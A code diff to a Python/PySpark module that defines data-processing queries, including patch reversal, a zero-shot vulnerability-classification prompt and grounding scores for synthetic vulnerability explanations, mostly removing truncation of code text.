-            yield b.assign(pre=[P.reverse_apply(t, hunks) for t in b["post"]])[["doc_id", "pre"]]
-
-    return d.mapInPandas(run, "doc_id long, pre string")
+    """A patch to the end of each whole text, taken back."""
+    text = F.coalesce("text", F.lit(""))
+    n = F.size(F.split(text, "\n"))
+    patch = F.concat(F.lit("diff --git a/f b/f\n@@ -"), n + 1, F.lit(",2 +"), n + 1, F.lit(",2 @@\n-old\n+new\n y"))
+    return P.reverse_patches(table(spark, sf, "documents").select("doc_id", F.concat(text, F.lit("\nnew\ny")).alias("post"), patch.alias("patch")))
 
 
 @query("""WITH l AS (SELECT user_id, event_id, CASE event_type WHEN 'click' THEN '+' WHEN 'error' THEN '-' ELSE ' ' END AS c FROM events)
@@ -219,9 +355,9 @@ def u04_line_cursor(spark, sf):
     return X.line_cursor(lines, ["user_id"], "event_id").drop("raw")
 
 
-@query("SELECT sample_id, 'Is the following code vulnerable?' || chr(10) || 'Language: ' || language || chr(10) || substr(code, 1, 200) || chr(10) || 'Answer with JSON: {\"vulnerable\": true or false, \"cwe\": \"CWE-n\" or null, \"reason\": \"...\"}' AS prompt FROM corpus", "corpus")
+@query("SELECT sample_id, 'Is the following code vulnerable?' || chr(10) || 'Language: ' || language || chr(10) || code || chr(10) || 'Answer with JSON: {\"vulnerable\": true or false, \"cwe\": \"CWE-n\" or null, \"reason\": \"...\"}' AS prompt FROM corpus", "corpus")
 def u06_prompt(spark, sf):
-    return corpus(spark, sf).select("sample_id", X.prompt("zero_shot", F.col("language"), F.substring("code", 1, 200)).alias("prompt"))
+    return corpus(spark, sf).select("sample_id", X.prompt("zero_shot", F.col("language"), F.col("code")).alias("prompt"))
 
 
 @query("""WITH v AS (SELECT conv_id, CASE WHEN length(text) % 5 = 0 THEN NULL ELSE length(text) % 2 = 0 END AS vote, role FROM conversations), n AS (SELECT conv_id, count(vote) AS votes, sum(CAST(vote AS INTEGER)) AS ayes FROM v GROUP BY 1),
@@ -232,7 +368,7 @@ def u07_majority_vote(spark, sf):
     return X.majority(v, "conv_id", "vote", "role")
 
 
-_X10 = r"""r AS (SELECT doc_id, substr(text, 1, 500) AS code, regexp_extract(text, '([a-z]{4,})', 1) AS w, doc_id % 9 AS cited, doc_id % 7 + 1 AS line, doc_id % 2 = 0 AS known FROM documents),
+_X10 = r"""r AS (SELECT doc_id, text AS code, regexp_extract(text, '([a-z]{4,})', 1) AS w, doc_id % 9 AS cited, doc_id % 7 + 1 AS line, doc_id % 2 = 0 AS known FROM documents),
 t AS (SELECT *, list_distinct(list_transform(regexp_extract_all(code, '[a-zA-Z_][0-9A-Za-z_]*'), lambda x: lower(x))) AS terms, list_filter(list_distinct(['invented_' || doc_id, w]), lambda x: length(x) > 2 AND x NOT IN ('without', 'which', 'this', 'that', 'could', 'would', 'should')) AS refs FROM r),
 p AS (SELECT *, len(list_filter(refs, lambda t: list_contains(terms, t) OR len(list_filter(terms, lambda c: length(c) > 3 AND (contains(t, c) OR contains(c, t)))) > 0)) AS here FROM t),
 s AS (SELECT *, here / CAST(len(refs) AS DOUBLE) AS grounded, CASE WHEN abs(cited - line) <= 3 THEN 1.0 ELSE 0.0 END AS located FROM p)"""
@@ -244,7 +380,7 @@ def x10_grounding(spark, sf):
 
     i = F.col("doc_id")
     reason = F.concat(F.lit("The call `"), F.regexp_extract("text", "([a-z]{4,})", 1), F.lit("(x)` writes past the buffer at line "), i % 9, F.lit(", see invented_"), i)
-    s = explanation_scores(reason, F.substring("text", 1, 500), F.when(i % 2 == 0, "CWE-787"), F.array((i % 7 + 1).cast("int")))
+    s = explanation_scores(reason, F.col("text"), F.when(i % 2 == 0, "CWE-787"), F.array((i % 7 + 1).cast("int")))
     return table(spark, sf, "documents").select(i, s.alias("s")).select(i, "s.grounded", "s.invented", "s.located", "s.composite")
 
 
